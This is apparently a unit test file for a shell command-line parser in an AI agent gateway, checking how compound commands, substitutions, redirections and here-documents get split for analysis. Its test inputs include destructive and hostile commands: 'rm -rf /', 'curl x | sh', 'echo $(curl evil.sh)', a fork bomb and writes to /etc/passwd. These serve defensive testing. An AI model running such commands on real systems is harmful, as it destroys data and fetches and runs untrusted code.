import assert from 'node:assert/strict';
import { commandWords, parseCommandLine, splitCommandLine } from '../../../../src/gateway/agent/commandLine';

const cmds = (line: string): string[] => {
  const r = splitCommandLine(line);
  assert.equal(r.error, undefined, `unexpected error for ${JSON.stringify(line)}: ${r.error}`);
  return [...r.commands].sort();
};
const sorted = (xs: string[]): string[] => [...xs].sort();

describe('splitCommandLine', () => {
  it('splits on && || ; | & and newlines', () => {
    assert.deepEqual(cmds('a && b || c; d | e & f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    assert.deepEqual(cmds('a|&b'), ['a', 'b']);
    assert.deepEqual(cmds('ls && rm -rf ~'), ['ls', 'rm -rf ~']);
    assert.deepEqual(cmds('npm test\nrm -rf /'), sorted(['npm test', 'rm -rf /']));
  });

  it('includes the commands of sub-shells, groups, substitutions and process substitutions', () => {
    assert.deepEqual(cmds('( cd a && make ) || { echo fail; exit 1; }'), sorted(['cd a', 'make', 'echo fail', 'exit 1']));
    assert.deepEqual(cmds('echo $(curl evil.sh)'), sorted(['curl evil.sh', 'echo $(curl evil.sh)']));
    assert.deepEqual(cmds('echo `whoami`'), sorted(['whoami', 'echo `whoami`']));
    assert.deepEqual(cmds('diff <(ls a) <(ls b)'), sorted(['ls a', 'ls b', 'diff <(ls a) <(ls b)']));
    assert.deepEqual(cmds('tee >(gzip > x.gz)'), sorted(['gzip', 'tee >(gzip > x.gz)']));
    assert.deepEqual(cmds('echo "$(id -u) and `date`"'), sorted(['id -u', 'date', 'echo $(id -u) and `date`']));
    assert.deepEqual(cmds('echo $(echo $(rm x))'), sorted(['rm x', 'echo $(rm x)', 'echo $(echo $(rm x))']));
    assert.deepEqual(cmds('echo ${x:-$(id)}'), sorted(['id', 'echo ${x:-$(id)}']));
  });

  it('removes quotes and escapes, and keeps quoted separators as data', () => {
    assert.deepEqual(cmds("'npm' test"), ['npm test']);
    assert.deepEqual(cmds('n"p"m t\\est'), ['npm test']);
    assert.deepEqual(cmds('git commit -m "a; rm -rf ~"'), ['git commit -m a; rm -rf ~']);
    assert.deepEqual(commandWords('git commit -m "a; rm -rf ~"'), ['git', 'commit', '-m', 'a; rm -rf ~']);
    assert.deepEqual(cmds('echo \'a && b\' "c | d"'), ['echo a && b c | d']);
    assert.deepEqual(cmds("echo $'a\\tb'"), ['echo a\tb']);
    assert.deepEqual(cmds('echo a\\;b'), ['echo a;b']);
    assert.deepEqual(cmds('echo one \\\n two'), ['echo one two']);
    assert.deepEqual(cmds("echo '$(not run)'"), ['echo $(not run)']);
  });

  it('strips leading env assignments and reserved words, not later ones', () => {
    assert.deepEqual(cmds('FOO=1 BAR="a b" npm test'), ['npm test']);
    assert.deepEqual(cmds("'FOO=1' npm test"), ['FOO=1 npm test']);
    assert.deepEqual(cmds('npm test FOO=1'), ['npm test FOO=1']);
    assert.deepEqual(parseCommandLine('PATH=/x:$PATH npm test').commands[0].assignments, ['PATH']);
    assert.deepEqual(cmds('if [ -f x ]; then cat x; else echo no; fi'), sorted(['[ -f x ]', 'cat x', 'echo no']));
    assert.deepEqual(cmds('for f in *.ts; do echo $f; done'), ['echo $f']);
    assert.deepEqual(cmds('while true; do sleep 1; done'), sorted(['true', 'sleep 1']));
    assert.deepEqual(cmds('! grep -q x y'), ['grep -q x y']);
    assert.deepEqual(cmds("'if' x"), ['if x']);
  });

  it('strips redirections and reports the targets that write', () => {
    assert.deepEqual(splitCommandLine('echo hi > /etc/passwd'), { commands: ['echo hi'], writes: ['/etc/passwd'] });
    assert.deepEqual(splitCommandLine('a >>log 2>&1 <in'), { commands: ['a'], writes: ['log'] });
    assert.deepEqual(splitCommandLine('a 2>err.txt &>all >|clobber'), { commands: ['a'], writes: ['err.txt', 'all', 'clobber'] });
    assert.deepEqual(splitCommandLine('a >& out 1>&2 <> rw'), { commands: ['a'], writes: ['out', 'rw'] });
    assert.deepEqual(splitCommandLine('cat <<< "x > y"').writes, []);
    assert.deepEqual(splitCommandLine('echo 2 > "my file"'), { commands: ['echo 2'], writes: ['my file'] });
  });

  it('reads here-documents: quoted bodies are data, unquoted ones are scanned for substitutions', () => {
    assert.deepEqual(cmds("cat <<'EOF' > f\n$(rm -rf ~)\nEOF\nls"), sorted(['cat', 'ls']));
    assert.deepEqual(cmds('cat <<EOF\nhello $(id)\nEOF'), sorted(['cat', 'id']));
    assert.deepEqual(cmds('cat <<-EOF\n\tbody\n\tEOF\necho done'), sorted(['cat', 'echo done']));
    assert.match(splitCommandLine('cat <<EOF\nno end').error ?? '', /here-document/);
  });

  it('records function definitions (their bodies are commands)', () => {
    const fork = parseCommandLine(':(){ :|:& };:');
    assert.deepEqual(fork.functions, [':']);
    assert.deepEqual(
      fork.commands.map((c) => c.text),
      [':', ':', ':'],
    );
    const f = parseCommandLine('npm() { curl x; }; npm test');
    assert.deepEqual(f.functions, ['npm']);
    assert.deepEqual(sorted(f.commands.map((c) => c.text)), ['curl x', 'npm test']);
    assert.deepEqual(parseCommandLine('function g { rm x; }').functions, ['g']);
  });

  it('reports pipelines, stages and depth', () => {
    const p = parseCommandLine('curl x | sh; echo $(a | b)');
    const by = Object.fromEntries(p.commands.map((c) => [c.words[0], c]));
    assert.equal(by.curl.pipeline, by.sh.pipeline);
    assert.deepEqual([by.curl.stage, by.sh.stage], [0, 1]);
    assert.notEqual(by.echo.pipeline, by.sh.pipeline);
    assert.deepEqual([by.a.depth, by.b.depth, by.echo.depth], [1, 1, 0]);
    assert.deepEqual(by.echo.substituted, [1]);
  });

  it('returns an error (the caller asks) for unbalanced or unanalysable input', () => {
    for (const bad of [
      'echo "unterminated',
      "echo 'x",
      'echo $(ls',
      'echo `ls',
      'a )',
      '( a',
      'echo ${x',
      'echo ${!x}',
      'echo ${x@P}',
      'case $x in a) b;; esac',
      'echo foo(bar)',
      'echo >',
      'echo $((1 + $(id)))',
    ]) {
      assert.ok(splitCommandLine(bad).error, `no error for ${JSON.stringify(bad)}`);
    }
    assert.match(splitCommandLine('x'.repeat(100_001)).error ?? '', /longer/);
    assert.match(splitCommandLine('a\0b').error ?? '', /NUL/);
    assert.match(splitCommandLine('$('.repeat(40) + 'x' + ')'.repeat(40)).error ?? '', /deeply/);
  });

  it('skips comments and empty commands', () => {
    assert.deepEqual(cmds('# just a comment\nls # trailing\n\n;'), ['ls']);
    assert.deepEqual(cmds('echo a#b'), ['echo a#b']);
    assert.deepEqual(cmds('FOO=1'), []);
    assert.deepEqual(commandWords('  '), []);
  });

  it('commandWords gives the top-level command words', () => {
    assert.deepEqual(commandWords('FOO=1 npm test -- --grep "a b" > out.txt'), ['npm', 'test', '--', '--grep', 'a b']);
    assert.deepEqual(commandWords('echo $(id)'), ['echo', '$(id)']);
    assert.deepEqual(commandWords('npm test'), ['npm', 'test']);
  });
});
